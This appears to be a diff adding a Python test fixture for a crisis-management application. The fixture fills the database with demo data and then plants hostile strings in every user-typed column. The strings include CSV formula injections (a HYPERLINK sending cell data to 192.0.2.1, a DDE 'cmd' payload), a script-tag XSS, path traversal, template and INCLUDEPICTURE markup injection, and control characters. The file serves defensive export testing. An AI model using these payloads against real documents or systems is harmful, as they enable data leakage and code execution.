@@ -1,0 +1,164 @@
+"""A crisis where every word that somebody may type is meant to harm: whoever opens a file, and whoever makes it."""
+
+from __future__ import annotations
+
+import io
+import json
+from dataclasses import replace
+
+from docx import Document
+
+from app.access.actor import COMMAND_LINE
+from app.core.clock import paris_date
+from app.response.bulletin import Audience
+from app.roster.person import Mission
+from app.roster.practice import Site, SiteKind
+from app.services import (
+    demo_desk,
+    demo_directory,
+    demo_event,
+    demo_plan,
+    demo_review,
+    demo_territory,
+    demo_trace,
+)
+from app.services.launch_alert import AlertRequest, launch_alert
+from app.services.open_event import open_event
+from app.services.publish_bulletin import prepare_publication
+from app.services.report_situation import begin_report
+from app.services.sign_card import read_signatures, sign_cards
+from app.services.staff_cell import plan_rotation
+from app.services.write_to_partner import LetterKind, Partner, write_to_partner
+from app.store import community, people
+from app.store.database import Connection, Store
+
+FORMULAS = (
+    '=HYPERLINK("http://192.0.2.1/"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    " ＝1+1",
+    "\u200b=1+1",
+)
+SCRIPT = "<script>alert(1)</script>"
+CLIMBS = "../../x\\..\\y"
+MARKUP = '#panic("typst") $x$ *gras* `x` {{cpts}} {0.__class__} %s & ]]> INCLUDEPICTURE "http://192.0.2.1/"'
+UNREADABLE = "\uffff\x0b\x00\x1b\u202e"
+"""What no XML holds, nor the file of any word processor."""
+
+TYPED: dict[str, tuple[str, ...]] = {
+    "contact": ("organisation", "name", "note", "checked_by"),
+    "hazard": ("source", "note"),
+    "sub_zone": ("name",),
+    "inventory_item": ("label", "unit", "lot", "place", "holder"),
+    "cell_shift": ("name", "handed_over"),
+    "articulation": ("they_call", "we_call", "they_offer", "they_expect", "convention"),
+    "plan": ("validated_by",),
+    "plan_sending": ("organisation", "address", "proof"),
+    "plan_reviewer": ("name", "organisation"),
+    "plan_comment": ("text", "reply"),
+    "card_signature": ("signed_by", "quality"),
+    "training": ("title", "place", "note"),
+    "training_person": ("comment",),
+    "awareness": ("audience", "title", "text"),
+    "event": ("title", "summary"),
+    "event_step": ("authority", "reference", "note"),
+    "checklist_item": ("text", "skipped", "done_by"),
+    "staffing_request": ("asked_by", "text", "place", "contact"),
+    "authority_request": ("asked_by", "text", "reply", "proof"),
+    "situation_report": ("text", "sent_to"),
+    "publication": ("title", "text", "channel", "agreed_by"),
+    "alert": ("title", "text"),
+    "alert_person": ("skills", "note"),
+    "desk_survey": ("title",),
+    "desk_reply": ("name", "stock", "needs"),
+    "partner_letter": ("organisation", "name", "subject", "body", "error"),
+    "site": ("name",),
+}
+"""Columns that hold what somebody typed, on a screen, in a file that was imported or behind a link."""
+
+
+def trap(rank: int) -> str:
+    """One text that harms in every way we know of, beginning with the nth formula."""
+    return f"{FORMULAS[rank % len(FORMULAS)]} {SCRIPT}{CLIMBS} {MARKUP}{UNREADABLE}"
+
+
+def a_full_crisis(store: Store) -> str:
+    """Fill every table of a crisis by its services, an authority's template beside; the event under way."""
+    with store.transaction() as conn:
+        community.write(conn, replace(community.read(conn), territory="auray"))
+        people.put_site(conn, Site(id="ehpad", kind=SiteKind.NURSING_HOME, name="EHPAD", commune_insee="56007"))
+        for number, person in enumerate(people.every(conn)):
+            missions = person.missions | {Mission.CRISIS_CELL}
+            mobile = person.mobile or f"+3363998000{number}"
+            people.put(conn, replace(person, missions=missions, mobile=mobile), store.now())
+    today = paris_date(store.now())
+    for part in (demo_directory, demo_territory, demo_event, demo_desk, demo_plan, demo_review, demo_trace):
+        part.fill(COMMAND_LINE, store, today)
+    with store.transaction() as conn:
+        event_id = first_id(conn, "event")
+        write_to_partner(
+            conn, store, store.now(), kind=LetterKind.OTHER, about="x", to=Partner("x"), subject="x", body="x"
+        )
+    launch_alert(COMMAND_LINE, store, AlertRequest(title="x", text="x", frame="ars_call", event_id=event_id))
+    marks = {slug: one.mark for slug, one in read_signatures(COMMAND_LINE, store).items()}
+    sign_cards(COMMAND_LINE, store, marks, name="x", quality="x")
+    plan_rotation(COMMAND_LINE, store, event_id, store.now(), 48, [])
+    for audience in Audience:
+        if audience not in (Audience.PUBLIC, Audience.TOWN_HALLS):
+            prepare_publication(COMMAND_LINE, store, event_id, audience, "x", "x")
+    _template(store)
+    return event_id
+
+
+def a_trap(store: Store) -> None:
+    """A full crisis with a trap in everything that somebody may type, and what is made of it afterwards."""
+    event_id = a_full_crisis(store)
+    with store.transaction() as conn:
+        _plant(conn)
+    begin_report(COMMAND_LINE, store, event_id)
+    open_event(COMMAND_LINE, store, f"{FORMULAS[1]} {SCRIPT}", plans=("typologie_1",))
+
+
+def _plant(conn: Connection) -> None:
+    for table, columns in TYPED.items():
+        rows = [row[0] for row in conn.execute(f"SELECT rowid FROM {table}")]
+        assert rows, f"nothing to trap in {table}"
+        for rank, row in enumerate(rows):
+            values = [trap(rank + place) for place in range(len(columns))]
+            conn.execute(
+                f"UPDATE {table} SET {', '.join(f'{one} = ?' for one in columns)} WHERE rowid = ?", [*values, row]
+            )
+    conn.execute("UPDATE contact SET email = '=1+1@example.org'")
+    conn.execute("UPDATE cell_member SET name = ? WHERE person_id IS NULL", (trap(0),))
+    conn.execute("DROP TRIGGER plan_validated_no_change")
+    for plan, held in conn.execute("SELECT id, sections FROM plan").fetchall():
+        conn.execute("UPDATE plan SET sections = ? WHERE id = ?", (json.dumps(_trapped(json.loads(held))), plan))
+
+
+def _trapped(held: object) -> object:
+    """The sections of a plan with every text of theirs trapped."""
+    if isinstance(held, dict):
+        return {key: [trap(0), trap(2)] if key == "items" else trap(1) if key in ("text", "title", "source") else _trapped(one) for key, one in held.items()}  # fmt: skip
+    return [_trapped(one) for one in held] if isinstance(held, list) else held
+
+
+def _template(store: Store) -> None:
+    """An authority's document, with a mark that the plan's own text repeats."""
+    document, kept = Document(), io.BytesIO()
+    document.add_paragraph("{{cpts}} {{territoire}} {{stock}}")
+    document.save(kept)
+    folder = store.folder.content / "templates"
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "ars.docx").write_bytes(kept.getvalue())
+    (folder / "ars.yaml").write_text(
+        'sections:\n  territory: "{{territoire}}"\nfields:\n  community: "{{cpts}}"\ntables:\n  inventaire: "{{stock}}"\n',
+        encoding="utf-8",
+    )
+
+
+def first_id(conn: Connection, table: str) -> str:
+    """An id of that table; empty when it has no row."""
+    row = conn.execute(f"SELECT id FROM {table} ORDER BY id").fetchone()
+    return str(row[0]) if row else ""
